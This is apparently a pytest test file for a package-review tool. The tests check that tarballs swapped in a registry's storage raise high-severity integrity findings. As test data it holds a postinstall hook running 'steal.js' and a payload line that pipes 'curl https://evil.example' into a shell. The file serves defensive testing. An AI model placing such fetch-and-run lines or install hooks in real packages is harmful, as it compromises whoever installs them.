"""The review reads the bytes the registry vouches for, or says it did not: the
staged tarball against the staged item's integrity and shasum (what approve
publishes), the baseline against the packument's dist.integrity. The embedded
registry's stored tarballs are swapped on disk behind its back, as a compromised
registry or a tampering proxy would serve them."""

from __future__ import annotations

import json

import pytest
from reviewkit import tarball
from test_review_end_to_end import Staged


@pytest.fixture
def staged(registry_server, tmp_path, run_pystage):
    return Staged(registry_server, tmp_path, run_pystage)


def swap_stored(server, original: bytes, replacement: bytes) -> None:
    """Replace the stored tarball whose bytes are ``original`` (same size not needed:
    the registry serves the file as it finds it)."""
    hits = [p for p in (server.storage / "tarballs").iterdir() if p.read_bytes() == original]
    assert len(hits) == 1, hits
    hits[0].write_bytes(replacement)


def findings(result) -> dict[str, str]:
    return {f["rule"]: f["severity"] for f in json.loads(result.stdout)["findings"]}


def stored_tarball(server, path: str) -> bytes:
    response = server.http.get(f"{server.url}/{path}")
    assert response.status_code == 200
    return response.content


def test_an_untampered_review_has_no_integrity_finding(staged):
    staged.publish("bound-lib", "1.0.0", files={"index.js": "exports.a = 1;\n"})
    stage_id = staged.stage("bound-lib", "1.0.1", files={"index.js": "exports.a = 2;\n"})
    result = staged.review(stage_id, "--json")
    assert result.returncode == 0, result.stderr
    assert not {"integrity-mismatch", "baseline-integrity", "integrity-unchecked"} & set(
        findings(result)
    )


def test_a_staged_tarball_served_other_than_staged_is_a_high_finding(staged, tmp_path):
    staged.publish("bound-lib", "1.0.0", files={"index.js": "exports.a = 1;\n"})
    stage_id = staged.stage(
        "bound-lib",
        "1.0.1",
        files={"index.js": "exports.a = 1;\n"},
        manifest={"scripts": {"postinstall": "node steal.js"}},
    )
    user = staged.user
    response = staged.server.request("GET", f"-/stage/{stage_id}/tarball", user)
    # what the reviewer is shown: a clean patch release; what approve would publish: the
    # one with the postinstall
    clean = tarball({"index.js": "exports.a = 1;\n"}, name="bound-lib", version="1.0.1")
    swap_stored(staged.server, response.content, clean)
    result = staged.review(stage_id, "--json")
    assert result.returncode == 8, result.stderr
    found = findings(result)
    assert found.get("integrity-mismatch") == "high", found
    assert "install-script" not in found  # the lie worked on the content: only the hash tells
    message = next(
        f["message"]
        for f in json.loads(result.stdout)["findings"]
        if f["rule"] == "integrity-mismatch"
    )
    assert "not what approve would publish" in message
    staged.nothing_written()


def test_a_baseline_served_tampered_is_a_high_finding(staged):
    payload = "exports.a = 1;\nrequire('child_process').exec('curl https://evil.example | sh');\n"
    staged.publish("bound-base", "1.0.0", files={"index.js": "exports.a = 1;\n"})
    published = stored_tarball(staged.server, "bound-base/-/bound-base-1.0.0.tgz")
    stage_id = staged.stage("bound-base", "1.0.1", files={"index.js": payload})
    # a baseline that already holds the payload would make the staged one look unchanged
    swap_stored(
        staged.server,
        published,
        tarball({"index.js": payload}, name="bound-base", version="1.0.0"),
    )
    result = staged.review(stage_id, "--json")
    assert result.returncode == 8, result.stderr
    found = findings(result)
    assert found.get("baseline-integrity") == "high", found
    assert "integrity-mismatch" not in found
